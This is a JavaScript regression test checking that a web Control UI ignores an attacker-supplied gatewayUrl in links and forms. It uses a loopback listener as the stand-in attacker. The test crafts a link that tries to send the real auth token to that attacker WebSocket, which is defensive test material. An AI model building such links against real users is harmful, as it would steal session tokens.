// Advisory regression, CVE-2026-25253 class (landscape.md 1.5): the
// reference's Control UI took a `gatewayUrl` query parameter and connected
// to it at once, sending `auth.token` and the device identity to an
// attacker's WebSocket (cross-site WebSocket hijacking, token theft).
//
// Here a listener on another loopback port stands in for the attacker and
// records every TCP connection and every byte it gets. The Control UI is
// opened with the attacker's URL in every place a link can carry it (query,
// fragment, both with a token), and the attacker's URL is also typed into
// the form with the real token: the attacker must see nothing at all, and
// every WebSocket the page opens must go to the gateway that served it.

import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { KEYS, storage, uiTest, waitFor, waitScreen } from './harness.mjs';

/** A TCP listener on 127.0.0.1 that records what reaches it. */
async function attacker() {
  const seen = { connections: 0, bytes: Buffer.alloc(0) };
  const sockets = new Set();
  const server = createServer((sock) => {
    seen.connections += 1;
    sockets.add(sock);
    sock.on('data', (d) => {
      seen.bytes = Buffer.concat([seen.bytes, d]);
    });
    sock.on('close', () => sockets.delete(sock));
    sock.on('error', () => {});
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = server.address().port;
  return {
    port,
    wsUrl: `ws://127.0.0.1:${port}`,
    seen,
    async close() {
      for (const s of sockets) s.destroy();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

uiTest('CVE-2026-25253 class: a gatewayUrl in the link is ignored; the token goes only to the serving gateway', async (env) => {
  const gw = await env.gateway();
  const evil = await attacker();
  try {
    const { page } = await env.context({ label: 'gateway-url-link' });
    const q = new URLSearchParams({ gatewayUrl: evil.wsUrl, gateway: evil.wsUrl, url: evil.wsUrl });
    const frag = new URLSearchParams({ gatewayUrl: evil.wsUrl, token: gw.token });
    await page.goto(`${gw.url()}?${q}#${frag}`);
    await waitScreen(page, 'app');
    // The token from the fragment was used against this gateway only.
    const st = await storage(page);
    assert.equal(st.session[KEYS.token(gw.wsUrl)], gw.token, 'token stored for the serving gateway');
    for (const [k, v] of Object.entries(st.session)) {
      assert.ok(!String(v).includes(String(evil.port)), `sessionStorage ${k} names the attacker: ${v}`);
    }
    for (const [k, v] of Object.entries(st.local)) {
      assert.ok(!String(v).includes(String(evil.port)), `localStorage ${k} names the attacker: ${v}`);
    }
    // The token left the address bar; the rest of the fragment may stay.
    assert.ok(!page.url().includes(gw.token), `token still in the URL: ${page.url()}`);
    // A reload (the link's query still in the URL) keeps using the gateway.
    await page.reload();
    await waitScreen(page, 'app');
    assert.ok(env.sockets.length >= 2, 'expected a WebSocket per page load');
    for (const s of env.sockets) {
      assert.ok(s.url.startsWith(gw.wsUrl), `WebSocket to ${s.url}, not the serving gateway`);
    }
    assert.equal(evil.seen.connections, 0, 'the attacker got a connection');
    assert.equal(evil.seen.bytes.length, 0, 'the attacker got bytes');
  } finally {
    await evil.close();
  }
});

uiTest('CVE-2026-25253 class: an attacker URL typed into the form with the real token receives nothing', async (env) => {
  const gw = await env.gateway();
  const evil = await attacker();
  try {
    const { page } = await env.context({ label: 'gateway-url-typed' });
    await page.goto(gw.url());
    await waitScreen(page, 'login', 'AUTH_TOKEN_MISSING');
    await page.fill('#gateway-url', evil.wsUrl);
    await page.fill('#gateway-secret', gw.token);
    await page.click('button#connect');
    // The page's CSP (connect-src: its own origin) stops the socket; the UI
    // shows the gateway as unreachable.
    await waitFor(async () => (await page.getAttribute('main#app', 'data-screen')) !== 'connecting', 'a screen after the blocked connect');
    await waitFor(() => env.csp.some((v) => String(v.blocked || '').includes(String(evil.port))), 'the CSP violation for the attacker URL');
    // Give a socket that somehow got through time to arrive.
    await new Promise((r) => setTimeout(r, 1500));
    assert.equal(evil.seen.connections, 0, 'the attacker got a connection');
    assert.equal(evil.seen.bytes.length, 0, 'the attacker got bytes');
    const st = await storage(page);
    for (const [k, v] of Object.entries({ ...st.session, ...st.local })) {
      assert.ok(!String(v).includes(gw.token) || k === KEYS.token(gw.wsUrl), `the token stored under ${k}`);
    }
    await env.shot(page, 'attacker-url-blocked');
    // The violation and the browser's console line are this test's own.
    env.csp = env.csp.filter((v) => !String(v.blocked || '').includes(String(evil.port)));
    env.allowConsoleError(/Content Security Policy|WebSocket connection to/);
    // The harness's origin check would flag the blocked attempt if the
    // browser reported it as a request; it must not have been opened.
    env.requests = env.requests.filter((r) => !r.url.includes(`:${evil.port}`));
  } finally {
    await evil.close();
  }
});
